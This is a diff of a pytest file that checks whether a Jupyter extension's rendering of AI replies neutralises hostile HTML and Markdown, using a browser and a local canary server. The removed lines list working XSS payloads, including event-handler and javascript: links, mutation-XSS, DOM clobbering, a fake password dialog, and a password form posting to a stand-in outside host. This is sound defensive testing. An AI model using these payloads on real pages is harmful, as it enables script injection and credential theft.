@@ -1,190 +1,371 @@
 """Answers that want to act in the page, to ask somebody else, or to look like the page: they cannot.
 
-Each text stands in every place of a reply. That the traps work is shown by what other tools do with an answer:
-`display(Markdown(answer))`.
+Each text stands in every place of a reply: while it comes, in the notebook where it was asked for, in one that a
+stranger got, and in the page that nbconvert makes of it. What the texts would fetch is there to be had, from a server
+that counts. That the traps work is shown by what other tools do with an answer: `display(Markdown(answer))`.
 """
 
 from __future__ import annotations
 
 import re
-from collections.abc import Iterator
-from typing import TYPE_CHECKING
+import time
+from collections.abc import Iterable, Iterator
+from functools import partial
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from threading import Event, Thread
+from typing import TYPE_CHECKING, Any, Self
 
 import pytest
-from peer import Answer, Peer, Seen, error, stream
+from hostile import HOSTILE, OUT, odd
+from peer import Answer, Peer, Seen, error, finish, sse, stream
 
-from browser.lab import Page, Server, copy, write
-from mimo_magics.messages import Annotation, Message, ReasoningPart, Reply, TextPart
+from browser.lab import PATIENCE, Page, Server, copy, expect, write
+from mimo_magics.messages import Annotation, Message, ReasoningPart, Reply, TextPart, ToolCall
 
 if TYPE_CHECKING:
-    from playwright.sync_api import Browser, Locator
+    from playwright.sync_api import Browser, BrowserContext, Locator
 
-OUT = "http://outside.invalid"
-HOSTILE = {
-    "script": "<script>ran('script')</script>",
-    "image": "<img src=x onerror=\"ran('image')\">",
-    "drawing": "<svg onload=\"ran('drawing')\"><text y=9>x</text></svg>",
-    "fold": "<details open ontoggle=\"ran('fold')\"><summary>x</summary>y</details>",
-    "mouse": "<b onmouseover=\"ran('mouse')\">x</b>",
-    "click": "<b onclick=\"ran('click')\">x</b>",
-    "focus": "<input autofocus onfocus=\"ran('focus')\">",
-    "link": '<a href="javascript:ran(\'link\')" target="_self">x</a>',
-    "markdown link": "[x](javascript:ran('link')) [x][1] <javascript:ran('link')>\n\n[1]: JaVaScRiPt:ran('link')",
-    "veiled link": "[x](&#106;avascript:ran('link')) [x](java\tscript:ran('link')) [x](\x01javascript:ran('link'))",
-    "data link": "[x](data:text/html,<script>ran('data')</script>) [x](blob:x)",
-    "document": "<iframe srcdoc=\"<script>top.ran('document')</script>\"></iframe>",
-    "frame": f'<iframe src="{OUT}/frame"></iframe><object data="{OUT}/object"></object><embed src="{OUT}/embed">',
-    "form": "<form action=\"javascript:ran('form')\"><button>Log in</button></form>",
-    "sent form": f'<form action="{OUT}/form"><input name="password"><button>Log in</button></form>',
-    "style": f"<style>@import url({OUT}/import); body {{ --caught: yes }}</style>",
-    "overlay": f'<div style="position:fixed; inset:0; z-index:99; background:url({OUT}/overlay)">Log in</div>',
-    "sheet": f'<link rel="stylesheet" href="{OUT}/sheet"><link rel="prefetch" href="{OUT}/prefetch">',
-    "font": f'<style>@font-face {{ font-family: f; src: url({OUT}/font) }}</style><p style="font-family:f">x</p>',
-    "refresh": f'<meta http-equiv="refresh" content="0; url={OUT}/refresh">',
-    "base": f'<base href="{OUT}/base/">',
-    "markdown picture": f"![x]({OUT}/markdown) ![x][1] [![x]({OUT}/linked)]({OUT}/there)\n\n[1]: {OUT}/reference",
-    "picture": f'<img src="{OUT}/picture"><picture><source srcset="{OUT}/source"><img></picture>',
-    "table": f"|![x]({OUT}/head)|\n|-|\n|<img src=x onerror=\"ran('cell')\">|",
-    "media": f'<audio src="{OUT}/audio" autoplay></audio><video src="{OUT}/video" poster="{OUT}/poster"></video>',
-    "command": '<button data-commandlinker-command="caught" data-commandlinker-args="{}">x</button>',
-    "mermaid": f"```mermaid\ngraph TD; a[\"<img src='{OUT}/mermaid' onerror='ran(1)'>\"]\nclick a call ran()\n```",
-    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=ran(2)>">',
-    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=ran('noscript')>\"></noscript>",
-    "break": "</div></details></pre><script>ran('break')</script>\n\n```\n</code></pre><script>ran(3)</script>",
-    "math": r"$\href{javascript:ran('math')}{x}$ $\style{position:fixed}{x}$ $\class{jp-Dialog}{x}$ $\cssId{a}{x}$",
-    "clobber": '<form id="jupyterapp" name="jupyterapp"><input name="commands" id="documentElement"></form>',
-    "dress": '<div class="jp-Dialog"><div class="jp-Dialog-content">Password?<input type="password"></div></div>',
-}
 AWAY = {"base", "refresh", "sent form"}
 """What takes the page away with it when nothing prevents it."""
-RUN = "break cell click command document drawing focus fold form image link mouse noscript script"
+RUN = (
+    "annotation arrived aside attached bang begun blank break button cell click command comment data "
+    "document drag draw drawing embed emphasis end equal esc far film focus fold footnote foreign form "
+    "frame glued heading heap if image imported index input json language link linked list mi missed "
+    "module mouse moved moving noscript object odd old order out paragraph part pointer popover quotation "
+    "raw remote script section sound spaces submit table template top turned unclosed under unknown view"
+)
 """What runs where nothing prevents it."""
 ASKED = (
-    "audio embed font frame head import linked markdown mermaid object overlay picture poster prefetch "
-    "reference sheet source video"
+    "alternative audio blank border bracketed button cell content cursor dot drawing early embed family "
+    "film filter font foreseen frame head import imported linked macro markdown mermaid object overlay picture "
+    "poster prefetch preload reference remote selector sheet sign source srcset table titled track video "
+    "y"
 )
 """What is fetched where nothing prevents it."""
 
-PROVOKE = """output => {
-    for (const each of output.querySelectorAll('*')) {
-        if (each.closest('a')?.getAttribute('href')?.startsWith('http')) continue;
-        for (const event of ['mouseover', 'focus', 'toggle', 'error', 'load'])
-            each.dispatchEvent(new Event(event));
-        each.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
+# The outside
+
+GIFTS = {
+    "image": ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' />"),
+    "script": ("text/javascript", "ran.{}"),
+    "style": ("text/css", "body {{ --caught: yes }}"),
+}
+PAGE = ("text/html", "<script>ran.{}</script>")
+
+
+class Canary:
+    """A server outside of the notebook; what it gives does what it was wanted for."""
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+        self._server = ThreadingHTTPServer(("127.0.0.1", 0), type("Bound", (Gift,), {"asked": self.asked}))
+        self._server.daemon_threads = True
+        self.host = f"127.0.0.1:{self._server.server_port}"
+        self.url = f"http://{self.host}"
+
+    def __enter__(self) -> Self:
+        Thread(target=self._server.serve_forever, args=(0.02,), daemon=True).start()
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self._server.shutdown()
+        self._server.server_close()
+
+    def aimed(self, text: str) -> str:
+        """Return the text with this server for the outside."""
+        return text.replace(OUT, self.url)
+
+
+class Gift(BaseHTTPRequestHandler):
+    """One connection to the canary."""
+
+    asked: list[str]
+
+    def give(self) -> None:
+        name = self.path.removeprefix("/")
+        self.asked.append(name)
+        kind, body = GIFTS.get(self.headers["Sec-Fetch-Dest"], PAGE)
+        self.send_response(200)
+        self.send_header("Content-Type", kind)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+        self.wfile.write(body.format(name).encode())
+
+    do_GET = do_HEAD = do_OPTIONS = do_POST = give  # noqa: N815  the library's names
+
+    def log_message(self, *_: object) -> None:
+        """Say nothing."""
+
+
+class Open:
+    """A browser whose pages reach the canary as well as their own server."""
+
+    def __init__(self, browser: Browser, canary: Canary) -> None:
+        self._browser = browser
+        self.canary = canary
+
+    def new_context(self, proxy: dict[str, str], **options: Any) -> BrowserContext:
+        bypass = f"{proxy['bypass']},{self.canary.host}"
+        return self._browser.new_context(proxy={**proxy, "bypass": bypass}, **options)
+
+
+# The traps
+
+RAN = "window.ran = new Proxy({}, {get: (_, name) => void caught(String(name))})"
+TRAP = "window.jupyterapp?.commands.addCommand('caught', {execute: () => ran.command})"
+PROVOKE = """outputs => {
+    const events = (
+        'animationstart beforetoggle contentvisibilityautostatechange dragstart error focus input load mouseover '
+        + 'pointerenter start toggle'
+    ).split(' ');
+    for (const each of outputs.flatMap(output => [...output.querySelectorAll('*')])) {
+        for (const event of events) each.dispatchEvent(new Event(event));
+        const way = each.closest('a')?.protocol;
+        if (!way || way === 'javascript:')
+            each.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
     }
 }"""
-LAST = "url => new Promise(done => Object.assign(new Image(), {onerror: done, src: url}))"
-TRAP = "jupyterapp.commands.addCommand('caught', {execute: () => ran('command')})"
+PAUSE = 300
+"""Milliseconds in which whatever is going to happen begins."""
+LAST = "url => new Promise(done => Object.assign(new Image(), {onload: done, onerror: done, src: url}))"
 STYLED = "getComputedStyle(document.body).getPropertyValue('--caught')"
 
 
-def script(seen: Seen) -> Answer:
-    """Answer with the hostile text that the prompt names, wherever a reply has a place for it."""
-    if seen.prompt == "error":
-        return error(400, "\n".join(HOSTILE.values()))
-    text = HOSTILE[seen.prompt]
-    source = Annotation("javascript:ran('source')", text, text, text, text)
-    message = Message("assistant", (ReasoningPart(text), TextPart(text)))
-    return stream(seen, Reply(message, None, text, text, text, (source,), (text,)))
+class Trap:
+    """A page in which everything is caught that runs, is fetched, or opens another one."""
+
+    def __init__(self, page: Page, canary: Canary) -> None:
+        self.page = page
+        self.caught: set[str] = set()
+        self._canary = canary
+        canary.asked.clear()
+        context = page.window.context
+        context.expose_function("caught", self.catch)
+        context.add_init_script(RAN)
+
+    def catch(self, name: str) -> None:
+        """Keep what ran."""
+        self.caught.add(name)
+
+    def provoke(self, outputs: Locator) -> None:
+        """Do with the outputs all that a person could, except following links; then wait for the last fetch."""
+        self.page.window.evaluate(TRAP)
+        outputs.evaluate_all(PROVOKE)
+        self.page.window.wait_for_timeout(PAUSE)
+        self.page.window.evaluate(LAST, f"{self._canary.url}/last")
+
+    def wait(self, run: str, asked: str) -> None:
+        """Wait until as much as this ran and was fetched."""
+        deadline = time.monotonic() + PATIENCE
+        while {*run.split()} - self.caught or {*asked.split()} - {*self._canary.asked}:
+            assert time.monotonic() < deadline, (sorted(self.caught), sorted({*self._canary.asked}))
+            self.page.window.wait_for_timeout(50)
+
+    def asked(self) -> set[str]:
+        """What the canary was asked for and whatever else the page wanted, except for the last; it is forgiven."""
+        wanted = {line.removeprefix(f"{self._canary.url}/") for line in self.page.wanted()}
+        self.page.forgive()
+        return {line for line in {*wanted, *self._canary.asked} - {"last"} if not line.startswith("file:")}
+
+    def assert_empty(self) -> None:
+        assert self.asked() == set()
+        assert self.caught == set()
+        assert not self.page.window.evaluate(STYLED)
+        assert len(self.page.window.context.pages) == 1
 
 
-@pytest.fixture
-def page(server: Server, browser: Browser) -> Iterator[Page]:
-    with Page(server, browser) as page:
-        yield page
+@pytest.fixture(scope="module")
+def canary() -> Iterator[Canary]:
+    with Canary() as canary:
+        yield canary
 
 
-def trapped(page: Page) -> list[str]:
-    """Return a list that will hold what called `ran`, in whichever frame or window."""
-    caught: list[str] = []
-    page.window.context.expose_function("ran", lambda name: caught.append(str(name)))
-    return caught
+@pytest.fixture(scope="module")
+def open_browser(browser: Browser, canary: Canary) -> Open:
+    return Open(browser, canary)
 
 
-def provoke(page: Page, cells: int) -> None:
-    """Do with the outputs all that a person could, except following links to the outside; then wait for the last."""
-    page.window.evaluate(TRAP)
-    for cell in range(cells):
-        page.output(cell).evaluate(PROVOKE)
-    page.window.evaluate(LAST, f"{OUT}/last")
+def groups(texts: Iterable[str]) -> list[list[str]]:
+    """Put some texts into one cell: a cell for each would take longer."""
+    rest = list(texts)
+    return [rest[start : start + 12] for start in range(0, len(rest), 12)]
 
 
-def asked(page: Page) -> str:
-    """What the page wanted from outside, except for the last thing, which we asked for; all is forgiven."""
-    paths = {line.removeprefix("GET ").removesuffix(" HTTP/1.1") for line in page.wanted()}
-    page.forgive()
-    return " ".join(sorted(path.removeprefix(f"{OUT}/") for path in paths - {f"{OUT}/last"}))
+def test_the_traps_work(server: Server, open_browser: Open, canary: Canary) -> None:
+    shown = [canary.aimed(text) for name, text in HOSTILE.items() if name not in AWAY]
+    cells = [f"display(*map(Markdown, {texts}))" for texts in groups(shown)]
+    write(server.folder / "traps.ipynb", "from IPython.display import Markdown", *cells)
+    with Page(server, open_browser) as page:
+        trap = Trap(page, canary)
+        page.open("traps.ipynb")
+        page.run_all()
+        page.wait_idle()
+        trap.provoke(page.window.locator(".jp-Cell-outputArea"))
+        trap.wait(RUN, ASKED)
+        assert " ".join(sorted(trap.caught)) == RUN
+        assert " ".join(sorted({*canary.asked} - {"last"})) == ASKED
+        assert page.window.evaluate(STYLED) == "yes"
+        page.forgive()
 
 
-def test_the_traps_work(page: Page, server: Server) -> None:
-    shown = [text for name, text in HOSTILE.items() if name not in AWAY]
-    cells = [f"from IPython.display import Markdown\nMarkdown({text!r})" for text in shown]
-    write(server.folder / "traps.ipynb", *cells)
-    caught = trapped(page)
-    page.open("traps.ipynb")
-    page.run_all()
-    page.wait_idle()
-    provoke(page, len(cells))
-    assert " ".join(sorted(set(caught))) == RUN
-    assert asked(page) == ASKED
-    assert page.window.evaluate(STYLED) == "yes"
+# What may be in a document
 
-
-TAGS = (
-    r"a|blockquote|br|code|del|details|div|em|h[1-6]|hr|li|ol|p|pre|s|small|span|strong|summary|table|tbody|td"
-    r"|th|thead|tr|ul"
-)
-ATTRIBUTES = {
-    "align": r"left|center|right",
-    "class": r"highlight|jp-RenderedHTMLCommon|numbering-entry|[a-z][a-z0-9]{0,2}|(mathjax|tex2jax)_.*",
-    "href": r"http://outside\.invalid/\w+",
-    "rel": r"(noopener|noreferrer|nofollow| )+",
-    "start": r"\d+",
-    "style": r"(text-align|opacity|margin-\w+): ?[\w.]+;?",
-    "target": r"_blank|_self",
-    "title": r"",
-}
-"""What may be in a document: the front end's own, and what has neither effect nor looks of its own."""
 FOUND = """documents => documents.flatMap(document => [...document.querySelectorAll('*')])
     .filter(each => !each.closest('mjx-container'))
-    .flatMap(each => [[each.localName], ...[...each.attributes].map(it => [it.name, it.value])])"""
+    .flatMap(each => [[each.localName], ...[...each.attributes].map(it => [each.localName, it.name, it.value])])"""
+TYPESET = """documents => documents.flatMap(document => [...document.querySelectorAll('mjx-container *')])
+    .flatMap(each => [...each.attributes].map(it => `${it.name}=${it.value}`))"""
+ADDED = {
+    "a rel": r"(noopener|noreferrer|nofollow| )+",
+    "a target": r"_blank|_self",
+    "span class": r"numbering-entry|mathjax_\w+ tex2jax_\w+|[a-z][a-z0-9]{0,2}",
+    "* style": r"(text-align|opacity|margin-\w+): ?[\w.]+;?",
+}
+"""What the front end adds."""
+NO_MATH = re.compile(
+    r"id=|on\w+=|data-command|(\w+:)?href=(?!http://.)|class=(?!mjx-|TEX|MJX)|style=.*(url\(|fixed|sticky)"
+)
+"""What typeset math has no need of."""
 
 
-def odd(documents: Locator) -> list[list[str]]:
-    """Tags and attributes in the documents that nobody would have put there with good intent."""
-    return [
-        each
-        for each in documents.evaluate_all(FOUND)
-        if not re.fullmatch(TAGS if len(each) == 1 else ATTRIBUTES.get(each[0], "(?!)"), each[-1])
-    ]
+def assert_harmless(documents: Locator) -> None:
+    assert odd(documents.evaluate_all(FOUND), ADDED) == []
+    assert [each for each in documents.evaluate_all(TYPESET) if NO_MATH.match(each)] == []
 
 
-def check(page: Page, caught: list[str]) -> None:
-    documents = page.window.locator(".mimo-reply")
-    assert documents.count() == len(HOSTILE)
-    assert odd(documents) == []
-    provoke(page, len(HOSTILE) + 2)
-    assert asked(page) == ""
-    assert caught == []
-    assert not page.window.evaluate(STYLED)
-    assert len(page.window.context.pages) == 1
+# At rest
+
+GROUPS = groups(HOSTILE.values())
 
 
-def test_a_hostile_answer_does_nothing(page: Page, server: Server, browser: Browser, model: Peer) -> None:
-    """Neither to the person who asked, whose notebook is trusted, nor to the one who got the file."""
-    model.script = script
-    cells = [f"%%mimo --no-history\n{name}" for name in HOSTILE]
-    write(server.folder / "hostile.ipynb", "%load_ext mimo_magics", *cells, "%%mimo --no-history\nerror")
-    caught = trapped(page)
-    page.open("hostile.ipynb")
-    page.run_all()
-    page.wait_idle()
-    assert page.is_trusted()
-    assert page.output(len(HOSTILE) + 1).inner_text().startswith("BadRequest: ")
-    check(page, caught)
-    stranger = copy(page.save(), "stranger.ipynb")
-    with Page(server, browser) as reader:
-        caught = trapped(reader)
-        reader.open(stranger.name, kernel=False)
-        assert not reader.is_trusted()
-        check(reader, caught)
+def everywhere(texts: list[str]) -> Reply:
+    """A reply with the texts in all its places."""
+    thoughts = [part for text in texts for part in (ReasoningPart(text), TextPart(text))]
+    calls = (ToolCall(f"call {number}", text, text) for number, text in enumerate(texts))
+    sources = [Annotation(url, text, text, text, text) for text in texts for url in (text, f"{OUT}/{text}")]
+    everything = "".join(texts)
+    message = Message("assistant", (*thoughts, *calls))
+    return Reply(message, None, everything, everything, everything, tuple(sources), tuple(texts))
+
+
+def script(canary: Canary, seen: Seen) -> Answer:
+    """Answer with the hostile texts whose number the prompt tells."""
+    if seen.prompt == "error":
+        return error(400, canary.aimed("\n".join(HOSTILE.values())))
+    return stream(seen, everywhere([canary.aimed(text) for text in GROUPS[int(seen.prompt)]]))
+
+
+@pytest.fixture(scope="module")
+def asked(server: Server, open_browser: Open, canary: Canary, model: Peer) -> Iterator[Trap]:
+    """The page where the questions were asked; the notebook is saved, its kernel shut down."""
+    model.script = partial(script, canary)
+    prompts = [*range(len(GROUPS)), "error"]
+    cells = [f"%%mimo --no-history\n{prompt}" for prompt in prompts]
+    write(server.folder / "hostile.ipynb", "%load_ext mimo_magics", *cells)
+    with Page(server, open_browser) as page:
+        trap = Trap(page, canary)
+        page.open("hostile.ipynb")
+        page.run_all()
+        page.wait_idle()
+        page.save()
+        page.shut_down()
+        yield trap
+
+
+def check(trap: Trap) -> None:
+    documents = trap.page.window.locator(".mimo-reply")
+    assert documents.count() == len(GROUPS)
+    assert_harmless(documents)
+    trap.provoke(trap.page.window.locator(".jp-Cell-outputArea"))
+    trap.assert_empty()
+
+
+def test_a_hostile_answer_does_nothing_to_who_asked(asked: Trap) -> None:
+    assert asked.page.is_trusted()
+    assert asked.page.output(len(GROUPS) + 1).inner_text().startswith("BadRequest: ")
+    check(asked)
+
+
+def test_a_hostile_answer_does_nothing_to_who_gets_the_file(
+    asked: Trap, server: Server, open_browser: Open, canary: Canary
+) -> None:
+    stranger = copy(server.folder / "hostile.ipynb", "stranger.ipynb")
+    with Page(server, open_browser) as page:
+        trap = Trap(page, canary)
+        page.open(stranger.name, kernel=False)
+        assert not page.is_trusted()
+        check(trap)
+
+
+@pytest.mark.parametrize("server", ["lab"], indirect=True)  # the file is the same
+def test_a_hostile_answer_does_nothing_in_the_page_that_nbconvert_makes(
+    asked: Trap, server: Server, open_browser: Open, canary: Canary
+) -> None:
+    """It asks for what the page of an empty notebook asks for. None of that is to be had: math is not typeset."""
+    documents = [write(server.folder / "empty.ipynb"), server.folder / "hostile.ipynb"]
+    wanted = []
+    with Page(server, open_browser) as page:
+        trap = Trap(page, canary)
+        for document in documents:
+            server.convert(document, "html")
+            page.window.goto(document.with_suffix(".html").as_uri())
+            trap.provoke(page.window.locator(".jp-Cell-outputArea"))
+            wanted.append(trap.asked())
+        assert page.window.locator(".mimo-reply").count() == len(GROUPS)
+        assert_harmless(page.window.locator(".mimo-reply"))
+        assert wanted[0] == wanted[1]
+        trap.assert_empty()
+
+
+# While it comes
+
+
+def coming(text: str, begun: Event, over: Event) -> Iterator[bytes | float]:
+    """Pieces of an answer that is held twice: before it comes, and before it ends."""
+    yield from (delta(role="assistant", error_message="Hm."), delta(reasoning_content="Hm.\n\n"))
+    yield from until(begun)
+    yield delta(reasoning_content=text)
+    yield delta(tool_calls=[{"index": 0, "id": text, "function": {"name": text, "arguments": text}}])
+    yield from (delta(error_message=text), delta(content=text))
+    yield from until(over)
+    yield from (finish(), b"data: [DONE]\n\n")
+
+
+def delta(**fields: object) -> bytes:
+    return sse({"id": "1", "model": "mimo-test", "choices": [{"index": 0, "delta": fields}]})
+
+
+def until(event: Event) -> Iterator[float]:
+    while not event.is_set():
+        yield 0.05
+
+
+def all_in_one(canary: Canary) -> str:
+    """Return all texts as one, each a block of its own, whatever it leaves open."""
+    quoted = ("> " + canary.aimed(text).replace("\n", "\n> ") for text in HOSTILE.values())
+    return "\n\n".join((*quoted, "The end."))
+
+
+def test_a_hostile_answer_does_nothing_while_it_comes(
+    server: Server, open_browser: Open, canary: Canary, model: Peer
+) -> None:
+    begun, over = Event(), Event()
+    model.script = lambda seen: Answer(coming(all_in_one(canary), begun, over))
+    write(server.folder / "coming.ipynb", "%load_ext mimo_magics", "%%mimo\nhello")
+    with Page(server, open_browser) as page:
+        trap = Trap(page, canary)
+        page.open("coming.ipynb")
+        page.run_all()
+        live = page.window.locator(".mimo-live")
+        live.wait_for()
+        begun.set()
+        shown = live.locator(".widget-html-content, .widget-htmlmath-content")
+        expect(shown.filter(has_text="The end.").last).to_be_visible()
+        assert live.locator("style").count() == 1
+        assert live.locator("button :not(i)").count() == 0
+        assert_harmless(shown.filter(has_not=page.window.locator("style")))
+        trap.provoke(shown)
+        trap.assert_empty()
+        over.set()
+        page.wait_idle()
+        expect(page.output(1).locator(".mimo-reply")).to_contain_text("The end.")
